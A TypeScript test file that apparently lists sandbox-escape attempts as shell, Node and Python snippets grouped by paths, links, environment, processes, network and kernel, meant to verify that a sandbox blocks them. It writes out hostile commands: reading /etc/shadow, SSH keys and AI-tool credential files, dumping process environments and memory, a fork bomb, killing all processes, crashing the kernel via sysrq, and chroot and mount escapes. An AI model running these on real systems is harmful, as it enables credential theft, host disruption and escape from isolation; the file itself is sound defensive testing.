/**
 * Ways out of the sandbox, as shell scripts. Each gets: $1 a file outside that holds a secret, $2 a port on which a server of the host listens,
 * $3 the path of a Unix socket of the host, $4 the number of a process of the host, $5 an abstract socket's name, $6 a word that only
 * the environment of the host holds. None of them may print the secret, change anything outside, be heard by the server, or leave a process behind.
 */
export interface Attempt {
  readonly kind: "path" | "link" | "environment" | "process" | "network" | "kernel"
  readonly name: string
  readonly script: string
}

const of = (kind: Attempt["kind"], scripts: Readonly<Record<string, string>>): ReadonlyArray<Attempt> =>
  Object.entries(scripts).map(([name, script]) => ({ kind, name, script }))

/** A program in Python, where the machine has it: it calls the system without a shell's manners. Its sixth argument is who waits for the attempt. */
const python = (program: string): string => `python3 -c '${program}' "$@" "$PPID"`

const paths = of("path", {
  "the file itself": 'cat "$1"; echo changed > "$1"',
  "up from the task": 'cat "/task/../../../../../..$1"; echo changed > "../../../..$1"',
  "append and truncate": 'echo changed >> "$1"; truncate -s 0 "$1"',
  "delete and move": 'rm -rf "$(dirname "$1")"; mv "$1" /task/',
  "a new file beside it": 'touch "$(dirname "$1")/new"; mkdir "$(dirname "$1")/dir"',
  "the root of this process": 'cat "/proc/self/root$1"; cat /proc/self/root/etc/shadow',
  "the root of the first process": 'cat "/proc/1/root$1"',
  "the roots of all processes": 'for p in /proc/[0-9]*; do cat "$p/root$1"; done',
  "the working folders of all processes":
    'for p in /proc/[0-9]*; do cat "$p/cwd/../../../../..$1"; ls "$p/cwd/"; done',
  "the tasks of all processes": 'cat /proc/*/task/*/root"$1"',
  "map_files of all processes": "cat /proc/*/map_files/*",
  "search the whole tree":
    'find / -xdev -name "$(basename "$1")" -exec cat {} +; find / -name "$(basename "$1")" -exec cat {} +',
  "usual places of secrets":
    "cat /etc/shadow /etc/gshadow /etc/ssh/* /root/.ssh/* /root/.bash_history /home/*/.ssh/* /var/lib/*/* /run/secrets/*",
  "usual places of logins":
    "cat /root/.claude/.credentials.json /root/.codex/auth.json /root/.gemini/oauth_creds.json ~/.config/*",
  "a globbed way": "cat /t*/icl-*/* /var/t*/* /*/*/secret.txt",
  "an absolute path with dots": 'cat "/./././..//..$1"',
  "a change of folder": 'cd / && cd "$(dirname "$1")" && cat secret.txt',
  "a new root below the task": 'mkdir -p /task/r && chroot /task/r /bin/sh -c "cat $1"; chroot / cat "$1"',
  "the old root": "ls /.old && cat /.old/etc/shadow; ls -la /old_root",
  "write to the system":
    "touch /usr/bin/evil /etc/evil /evil /opt/evil /usr/local/evil /dev/evil; ls -l /usr/bin/evil /evil",
  "replace the interpreter":
    "cp /bin/sh /opt/node/bin/node; cp /bin/sh /usr/bin/node; rm -f /opt/node/bin/node; mv /usr/bin/sh /usr/bin/sh2",
  "remount the system": "mount -o remount,rw /usr; mount -o remount,rw /; touch /usr/evil",
  "a bind of the root":
    'mkdir -p /task/b; mount --bind / /task/b; mount --rbind /proc/1/root /task/b; cat "/task/b$1"',
  "mount a disk":
    'mkdir -p /task/d; for d in /dev/vda /dev/sda /dev/sda1 /dev/nvme0n1; do mount "$d" /task/d; done; cat "/task/d$1"',
  "make a disk":
    'mknod /task/disk b 254 0; mknod /task/disk2 b 8 0; head -c 100 /task/disk; debugfs -R "cat $1" /task/disk',
  "make a memory device":
    "mknod /task/mem c 1 1; head -c 100 /task/mem; mknod /task/kmsg c 1 11; head -c 100 /task/kmsg",
  "unmount what covers": 'umount -l /proc; umount -l /usr; umount -l /task; umount -l /; cat "$1"',
  "pivot again": 'mkdir -p /task/n/o; pivot_root /task/n /task/n/o; cat "$1"',
  "node: every way to read": `node -e '
    const fs = require("node:fs"), f = process.argv[1]
    for (const g of [() => fs.readFileSync(f), () => fs.readFileSync("file://" + f), () => fs.readFileSync(new URL("file://" + f)), () => fs.openSync(f, "r+"), () => fs.readlinkSync("/proc/1/exe"), () => fs.readFileSync("/proc/1/root" + f)]) try { console.log(String(g())) } catch {}' "$1"`,
  "node: import and require": `node -e 'try { require(process.argv[1]) } catch (e) { console.log(e.message) } import(process.argv[1], { with: { type: "json" } }).catch((e) => console.log(e.message))' "$1"`,
  "node: copy and watch": `node -e 'const fs = require("node:fs"); try { fs.cpSync(process.argv[1], "/task/copy") } catch {} try { fs.linkSync(process.argv[1], "/task/hard") } catch {}' "$1"; cat /task/copy /task/hard`,
  "open by handle": python(
    'import ctypes,sys\nl=ctypes.CDLL(None,use_errno=True)\nh=ctypes.create_string_buffer(16)\nctypes.memmove(h,(8).to_bytes(4,"little")+(1).to_bytes(4,"little")+(2).to_bytes(8,"little"),16)\nf=l.syscall(304,l.open(b"/task",0),h,0)\nprint(f)\nimport os\nprint(os.listdir(f) if f>=0 else "no")'
  ),
  "the parent folder of an open folder": python(
    'import os,sys\nd=os.open("/task",os.O_RDONLY)\nfor i in range(20): d=os.open("..",os.O_RDONLY,dir_fd=d)\nprint(open(f"/proc/self/fd/{d}"+sys.argv[1]).read())'
  ),
  "a folder that is left behind by a new root": python(
    'import os,sys\nd=os.open("/",os.O_RDONLY)\nos.makedirs("/task/x",exist_ok=True)\nos.chroot("/task/x")\nos.fchdir(d)\n[os.chdir("..") for i in range(50)]\nos.chroot(".")\nprint(open(sys.argv[1]).read())'
  )
})

const links = of("link", {
  "a link to the file": 'ln -s "$1" /task/link; cat /task/link; echo changed > /task/link',
  "a link to the root": 'ln -s / /task/root; cat "/task/root$1"; echo changed > "/task/root$1"',
  "a link through the first process": 'ln -s /proc/1/root /task/p; cat "/task/p$1"',
  "a hard link to the file": 'ln "$1" /task/hard; cat /task/hard',
  "a hard link to a program":
    "ln /usr/bin/env /task/env; ln -P /opt/node/bin/node /task/node; ls -l /task/env",
  "a link in the place of the task":
    'cd /; rmdir /task; mv /task /task2; ln -sfn "$(dirname "$1")" /task; cat /task/secret.txt',
  "a link for those who come later":
    'mkdir -p /task/src; ln -s "$1" /task/src/a.txt; ln -s "$(dirname "$1")" /task/dir; ln -s ../../../../../../../etc/shadow /task/up',
  "a link as a name that is listed":
    'ln -s "$1" "/task/README.md"; ln -s "$1" /task/package.json; ln -s "$1" /task/.gitignore',
  "a chain of links": 'ln -s b /task/a; ln -s c /task/b; ln -s "$1" /task/c; cat /task/a',
  "a loop of links": "ln -s l2 /task/l1; ln -s l1 /task/l2; cat /task/l1; ls -R /task/l1",
  "a race of a link and a folder":
    'cd /task; mkdir -p race; (for i in 1 2 3 4 5 6 7 8 9; do rm -rf race; ln -s "$(dirname "$1")" race; rm -f race; mkdir race; done) ; rm -rf race; ln -s "$(dirname "$1")" race',
  "a pipe for those who come later": "mkfifo /task/pipe /task/answer.txt",
  "a socket for those who come later": `node -e 'require("node:net").createServer().listen("/task/sock", () => process.kill(process.pid, "SIGKILL"))'`,
  "names that look like ways out":
    "cd /task; mkdir -p '．．' '‥' '..%2f..' 'a\\..\\..'; touch '．．/x' ' .. ' '...' '-rf' '*' \"$(printf 'a\\nb')\"; ls -a",
  "a folder deeper than a path":
    'cd /task; mkdir chain; i=0; while [ $i -lt 40 ]; do mkdir w && mv chain "w/$(printf "%0200d" 0)" && mv w chain || break; i=$((i+1)); done',
  "a file without rights":
    "mkdir -p /task/closed; echo x > /task/closed/in; chmod 000 /task/closed/in /task/closed",
  "a program with the owner's rights":
    "cp /bin/sh /task/sh; chmod 6755 /task/sh; ls -l /task/sh; /task/sh -p -c id",
  "a file that is too large":
    "truncate -s 1T /task/huge; dd if=/dev/zero of=/task/big bs=1M count=100; ls -l /task/big",
  "a name of another's file":
    "touch /task/SECRET.md; chown 0:0 /task/SECRET.md; chgrp 0 /task/SECRET.md; ls -ln /task/SECRET.md"
})

const environment = of("environment", {
  "its own environment": "env; export -p; set",
  "the environments of all processes": "cat /proc/*/environ | tr '\\0' '\\n'",
  "the environment of a thread": "cat /proc/*/task/*/environ | tr '\\0' '\\n'",
  "node's environment": `node -e 'console.log(JSON.stringify(process.env))'`,
  "files of the environment":
    "cat /etc/environment /etc/profile /etc/profile.d/* ~/.profile ~/.bashrc ~/.netrc ~/.npmrc /root/.npmrc",
  "descriptors that were left open":
    'for f in /proc/self/fd/*; do readlink "$f"; done; for f in 3 4 5 6 7 8 9; do timeout 1 cat <&$f; done 2>/dev/null',
  "descriptors of others": "ls -l /proc/*/fd; cat /proc/1/fd/*",
  "the memory of the first process": "head -c 100000 /proc/1/mem; cat /proc/1/maps; cat /proc/1/auxv",
  "the memory of a parent": python(
    'import sys\nfor q in (1,int(sys.argv[6])):\n try:\n  m=open(f"/proc/{q}/maps").read().split()[0].split("-")\n  f=open(f"/proc/{q}/mem","rb");f.seek(int(m[0],16));print(f.read(10))\n except Exception as e: print(e)'
  ),
  "the kernel's keys": "cat /proc/keys /proc/key-users; keyctl show; keyctl list @s; keyctl list @u",
  "the kernel's log": "dmesg; cat /dev/kmsg /proc/kmsg",
  "the terminal": "cat /dev/tty; echo changed > /dev/tty; ls /dev/pts; stty -a",
  "history and logins of others": "last; w; who; cat /var/log/* /run/utmp; loginctl",
  "a core of a process": "ulimit -c unlimited; sh -c 'kill -SEGV $$'; ls /task /tmp"
})

const processes = of("process", {
  "kill a process of the host": 'kill -9 "$4"; kill -STOP "$4"; kill -0 "$4"',
  "kill all": "kill -9 -1",
  "kill the first process": "kill -9 1; kill -TERM 1; kill -INT 1; kill -SEGV 1",
  "kill whoever waits": "kill -9 $PPID",
  "stop whoever waits": "(sleep 1; kill -STOP $PPID) & sleep 0.1",
  "list the host's processes": "ps -ef; ls /proc; pgrep -a .; top -b -n 1",
  "a child in the background": "sleep 300 & echo $!",
  "a child in a session of its own": "setsid sleep 300 & setsid -f sleep 300",
  "a daemon":
    "(setsid sh -c 'trap \"\" TERM HUP INT; sleep 300 & exec sleep 300' >/dev/null 2>&1 < /dev/null &)",
  "a daemon that holds the output": "setsid -f sleep 300; nohup sleep 300 &",
  "a late writer": "(sleep 2; echo late > /task/late) & exit 0",
  "a bomb of forks": ":(){ :|:& };: ; sleep 1",
  "a bomb of threads": `node -e 'const { Worker } = require("node:worker_threads"); for (let i = 0; i < 500; i++) new Worker("setInterval(() => {}, 1000)", { eval: true }).on("error", () => process.exit(1)); setTimeout(() => process.exit(), 2000)'`,
  "all the memory": `node --max-old-space-size=100000 -e 'const all = []; for (;;) all.push(Buffer.alloc(100_000_000, 1))'`,
  "all the memory of files":
    "dd if=/dev/zero of=/tmp/a bs=1M count=1000; dd if=/dev/zero of=/dev/shm/a bs=1M count=1000; df -k /tmp | tail -1",
  "all the names":
    "cd /tmp; i=0; while [ $i -lt 20000 ]; do : > f$i || break; i=$((i+1)); done 2>/dev/null; ls | wc -l",
  "a higher priority": "renice -n -20 $$; nice -n -20 true; chrt -f 50 true; ionice -c 1 -n 0 true",
  "higher limits":
    "prlimit --pid $$ --nproc=unlimited --data=unlimited --fsize=unlimited; ulimit -u unlimited; prlimit --pid $$",
  "not to be chosen when memory is short":
    "echo -1000 > /proc/self/oom_score_adj; cat /proc/self/oom_score_adj",
  "trace the first process": python(
    "import ctypes\nl=ctypes.CDLL(None,use_errno=True)\nprint(l.ptrace(16,1,0,0),ctypes.get_errno())"
  ),
  "trace the parent": python(
    "import ctypes,sys\nl=ctypes.CDLL(None,use_errno=True)\nprint(l.ptrace(16,int(sys.argv[6]),0,0),ctypes.get_errno())"
  ),
  "take a descriptor of another": python(
    "import ctypes,sys\nl=ctypes.CDLL(None,use_errno=True)\nfor p in (1,int(sys.argv[6])):\n d=l.syscall(434,p,0)\n for n in range(10): print(l.syscall(438,d,n,0))"
  ),
  "read the memory of another": python(
    'import ctypes,sys\nl=ctypes.CDLL(None,use_errno=True)\nclass V(ctypes.Structure): _fields_=[("b",ctypes.c_void_p),("l",ctypes.c_size_t)]\nb=ctypes.create_string_buffer(64)\nfor p in (1,int(sys.argv[6])): print(l.process_vm_readv(p,ctypes.byref(V(ctypes.addressof(b),64)),1,ctypes.byref(V(0x400000,64)),1,0))'
  ),
  "jobs of the system":
    'echo "* * * * * touch $(dirname "$1")/new" | crontab -; echo "touch $(dirname "$1")/new" | at now; systemd-run touch "$(dirname "$1")/new"; systemctl list-units',
  "become somebody":
    "su -c id; sudo -n id; su root -c id; newgrp root; pkexec id; runuser -u root id; setpriv --reuid=0 id; chsh -s /bin/sh",
  "programs with the owner's rights":
    "find /usr -xdev -perm -4000 -exec sh -c 'echo | timeout 1 \"$1\" --version' x {} \\; ; passwd -d root; mount; umount /"
})

const network = of("network", {
  "a shell's connection":
    'bash -c "echo hi > /dev/tcp/127.0.0.1/$2"; bash -c "echo hi > /dev/tcp/localhost/$2"; bash -c "echo hi > /dev/udp/127.0.0.1/$2"',
  "curl and wget":
    'curl -sm 2 "http://127.0.0.1:$2/"; wget -qT 2 -O - "http://127.0.0.1:$2/"; curl -sm 2 "http://[::1]:$2/"',
  "node: http": `timeout 5 node -e 'for (const h of ["127.0.0.1", "[::1]", "localhost", "0.0.0.0", "127.1.2.3"]) fetch("http://" + h + ":" + process.argv[1]).then((r) => r.text()).then(console.log, (e) => console.log(e.cause?.code))' "$2"`,
  "node: the machine's other addresses": `timeout 5 node -e 'const os = require("node:os"), net = require("node:net"); console.log(JSON.stringify(os.networkInterfaces())); for (const h of ["10.0.0.1", "172.17.0.1", "192.168.0.1", "169.254.169.254", "host.docker.internal"]) net.connect({ host: h, port: Number(process.argv[1]), timeout: 500 }).on("error", (e) => console.log(e.code))' "$2"`,
  "node: datagrams": `timeout 5 node -e 'const s = require("node:dgram").createSocket("udp4"); s.send("hi", Number(process.argv[1]), "127.0.0.1", (e) => { console.log(String(e)); s.close() })' "$2"`,
  "node: the host's socket": `timeout 5 node -e 'require("node:net").connect(process.argv[1]).on("error", (e) => console.log(e.code)).on("connect", () => console.log("connected"))' "$3"`,
  "node: an abstract socket": `timeout 5 node -e 'require("node:net").connect("\\0" + process.argv[1]).on("error", (e) => console.log(e.code)).on("connect", () => console.log("connected"))' "$5"`,
  "python: an abstract socket": python(
    'import socket,sys\ns=socket.socket(socket.AF_UNIX)\ns.connect("\\0"+sys.argv[5])\ns.send(b"hi")'
  ),
  "node: names": `timeout 5 node -e 'require("node:dns").lookup("example.com", (e, a) => console.log(e?.code, a)); require("node:dns").resolve("example.com", (e, a) => console.log(e?.code, a))'`,
  "sockets of services":
    "ls /var/run/docker.sock /run/docker.sock /run/dbus /run/systemd /tmp/.X11-unix /run/user; cat /run/*",
  "bring up an interface": "ip link set lo up; ip addr add 127.0.0.1/8 dev lo; ifconfig lo up; ip addr",
  "make an interface":
    "ip link add v0 type veth peer name v1; ip link set v1 netns 1; ip tuntap add t0 mode tun; ip route add default dev lo",
  "raw packets": python(
    'import socket\nfor a in ((socket.AF_INET,socket.SOCK_RAW,1),(17,socket.SOCK_RAW,3)):\n try: socket.socket(*a);print("raw")\n except Exception as e: print(e)'
  ),
  "join the host's network":
    'nsenter --net=/proc/1/ns/net curl -sm 2 "http://127.0.0.1:$2/"; nsenter -t 1 -n true; ip netns exec host true',
  "a tunnel through ssh or git":
    'git clone "http://127.0.0.1:$2/x" /task/x; git clone "git://127.0.0.1:$2/x" /task/y; ssh -o ConnectTimeout=1 127.0.0.1 true',
  packages: 'timeout 5 npm --registry "http://127.0.0.1:$2" view x; timeout 5 pip download x; apt-get update',
  "listen where the host could be heard": `timeout 3 node -e 'require("node:net").createServer((s) => s.end("evil")).listen(Number(process.argv[1]), "0.0.0.0", () => console.log("listening")).on("error", (e) => console.log(e.code)); setTimeout(() => process.exit(), 500)' "$2"`
})

const kernel = of("kernel", {
  "a further user namespace":
    'unshare -Ur cat "$1"; unshare --user true; echo 100 > /proc/sys/user/max_user_namespaces; unshare -Ur true && echo nested',
  "further namespaces": "for n in m p n i u C T; do unshare -$n true && echo made $n; done",
  "enter the namespaces of the first process":
    "for n in m u i n p U C; do nsenter -t 1 -$n true && echo entered $n; done; nsenter -t 1 -a true",
  "enter those of the parent":
    "nsenter -t $PPID -U -m sh -c 'cat /etc/shadow'; nsenter --preserve-credentials -t $PPID -U -m id",
  "the capabilities":
    "capsh --print; grep Cap /proc/self/status; setpriv --bounding-set=+all true; capsh --caps=cap_sys_admin+ep -- -c id",
  "the pattern of cores":
    'cat /proc/sys/kernel/core_pattern > /task/before; echo "|/task/x" > /proc/sys/kernel/core_pattern; cmp /proc/sys/kernel/core_pattern /task/before',
  "settings of the kernel":
    "for f in kernel/hostname kernel/modprobe kernel/sysrq vm/drop_caches fs/suid_dumpable net/ipv4/ip_forward kernel/randomize_va_space; do echo 1 > /proc/sys/$f && echo wrote $f; done",
  "the magic key": "echo b > /proc/sysrq-trigger; echo c > /proc/sysrq-trigger",
  "control groups":
    "mkdir -p /task/cg; mount -t cgroup -o memory cgroup /task/cg; mount -t cgroup2 none /task/cg; ls /sys/fs/cgroup",
  "the system's own files":
    "ls /sys /sys/kernel /sys/firmware; mount -t sysfs sysfs /task; cat /proc/kcore | head -c 10; cat /proc/kallsyms | head -2",
  "files in user space": "ls -l /dev/fuse; fusermount -V; modprobe fuse; insmod /x.ko",
  "probes of the kernel": python(
    "import ctypes\nl=ctypes.CDLL(None,use_errno=True)\nb=ctypes.create_string_buffer(128)\nfor n in (321,298,175,246,165,155,161,169,167,173,179,101):\n r=l.syscall(n,1,b,128,0,0)\n print(n,r,ctypes.get_errno())"
  ),
  "another clock and name": "date -s 2000-01-01; hostname evil; domainname evil; hwclock --systohc",
  "shared memory of the host": "ipcs -a; ipcmk -M 100; ls /dev/shm /dev/mqueue; ls -la /dev/shm"
})

export const attempts: ReadonlyArray<Attempt> = [
  ...paths,
  ...links,
  ...environment,
  ...processes,
  ...network,
  ...kernel
]
